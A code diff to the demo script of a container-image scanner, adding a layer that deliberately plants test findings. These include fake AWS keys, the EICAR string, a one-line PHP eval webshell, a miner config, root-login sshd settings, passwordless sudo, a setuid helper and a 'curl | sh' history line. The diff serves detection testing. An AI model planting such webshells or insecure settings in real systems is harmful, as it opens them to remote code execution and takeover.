@@ -1,5 +1,8 @@
 """`make demo`: build a small, realistic multi-layer image by code, then scan it with hullscan.
 
+The last layer plants one of everything the scan items look for (a fake cloud key, EICAR, a
+webshell, a miner config, unsafe sshd and sudo settings, a weak password, a setuid helper).
+
 Offline: every file comes from demo/image/ (real dpkg records and copyright files of Debian 12,
 real metadata fields of old PyPI/npm/Maven releases), assembled into an OCI layout by hullscan's
 own image builder. Nothing is downloaded and no image blob is checked in.
@@ -7,6 +10,7 @@ own image builder. Nothing is downloaded and no image blob is checked in.
 
 from __future__ import annotations
 
+import hashlib
 import io
 import os
 import shutil
@@ -43,6 +47,40 @@ def jar(group: str, artifact: str, version: str) -> bytes:
     return buf.getvalue()
 
 
+def _fake(prefix: str, length: int, alphabet: str, seed: str) -> str:
+    """A format-valid but fake credential: deterministic, so the demo is stable, and never a real one."""
+    digest = hashlib.sha512(seed.encode()).digest() * 4
+    return prefix + "".join(alphabet[b % len(alphabet)] for b in digest[:length])
+
+
+def planted() -> list[FileSpec | tuple[str, bytes | str]]:
+    """A layer that gets wrong everything the other scan items look for."""
+    from hullscan.checks.crypt import system_crypt
+
+    upper = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
+    b64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
+    key_id = _fake("AKIA", 16, upper, "demo-id")
+    secret = _fake("", 40, b64, "demo-secret")
+    eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+    shadow_hash = system_crypt().make("admin123", "$y$")
+    return [
+        ("srv/app/.env", f"AWS_ACCESS_KEY_ID={key_id}\nAWS_SECRET_ACCESS_KEY={secret}\n"),
+        ("var/tmp/eicar.com", eicar),
+        ("var/www/html/shell.php", "<?php if (isset($_POST['c'])) { eval($_POST['c']); } ?>\n"),
+        ("opt/.cache/config.json", '{"autosave": true, "donate-level": 1, "randomx": {"mode": "fast"}, '
+                                   '"pools": [{"url": "stratum+tcp://pool.invalid:3333", "user": "wallet"}]}'),
+        ("etc/ssh/sshd_config", "PermitRootLogin yes\nPasswordAuthentication yes\n"),
+        ("etc/passwd", "root:x:0:0:root:/root:/bin/bash\napp:x:1000:1000::/srv/app:/bin/sh\n"
+                       "admin:x:1001:1001::/home/admin:/bin/bash\n"),
+        ("etc/group", "root:x:0:\napp:x:1000:\nadmin:x:1001:\n"),
+        FileSpec("etc/shadow", f"root:*:19000:0:99999:7:::\napp:!:19000:0:99999:7:::\n"
+                               f"admin:{shadow_hash}:19000:0:99999:7:::\n".encode(), mode=0o640),
+        ("etc/sudoers.d/app", "app ALL=(ALL) NOPASSWD: ALL\n"),
+        FileSpec("usr/local/bin/netdiag", b"#!/bin/sh\nexec ping \"$@\"\n", mode=0o4755),
+        FileSpec("etc/app.conf", b"listen=0.0.0.0\n", mode=0o666),
+    ]
+
+
 def build() -> Path:
     base = SRC / "1-base"
     copyright_files = [(f"usr/share/doc/{p.name}/copyright", p.read_bytes()) for p in (base / "copyright").iterdir()]
@@ -64,12 +102,15 @@ def build() -> Path:
     # A later layer upgrades urllib3 and removes Jinja2: the report shows the final state only.
     layer4 = layer_tar([FileSpec(f"{SITE}/.wh.urllib3-1.24.1.dist-info"), *dist_info("urllib3", "1.26.5", "MIT"),
                         FileSpec(f"{SITE}/.wh.Jinja2-2.10.dist-info")])
+    layer5 = layer_tar(planted())
     image = Image([
         Layer(layer1, "ADD rootfs.tar.xz / # debian:12"),
         Layer(layer2, "RUN apt-get install -y curl python3.11"),
         Layer(layer3, "COPY app /srv/app && pip install -r requirements.txt", compression="zstd"),
         Layer(layer4, "RUN pip install urllib3==1.26.5 && pip uninstall -y Jinja2"),
-    ], config_extra={"config": {"User": "app", "Cmd": ["python3", "/srv/app/main.py"]}})
+        Layer(layer5, "RUN curl -fsSL https://get.example.sh | sh && cp -r ops/ /"),
+    ], config_extra={"config": {"Cmd": ["python3", "/srv/app/main.py"], "ExposedPorts": {"22/tcp": {}},
+                                "Env": ["PATH=/usr/local/bin:/usr/bin:/bin", "DB_PASSWORD=hunter2hunter2"]}})
     shutil.rmtree(OUT, ignore_errors=True)
     return write_oci_layout(OUT / "oci", image, tag="demo")
 
@@ -80,7 +121,7 @@ def main() -> int:
     db = OUT / "vuln.db"
     # The vulnerability database comes from real OSV records shipped in demo/osv (see PROVENANCE.md).
     subprocess.run([exe, "db", "import", str(HERE / "osv"), "--db", str(db)], check=True)
-    print(f"\nbuilt a 4-layer sample image at {layout}; scanning it:\n", flush=True)
+    print(f"\nbuilt a 5-layer sample image at {layout}; scanning it:\n", flush=True)
     code = subprocess.call([exe, "scan", f"oci:{layout}:demo", "--cache-dir", str(OUT / "cache"), "--db", str(db),
                             "--skip-db-update", "--list-packages"],
                            env={**os.environ, "HULLSCAN_DATA_DIR": str(OUT / "data")})
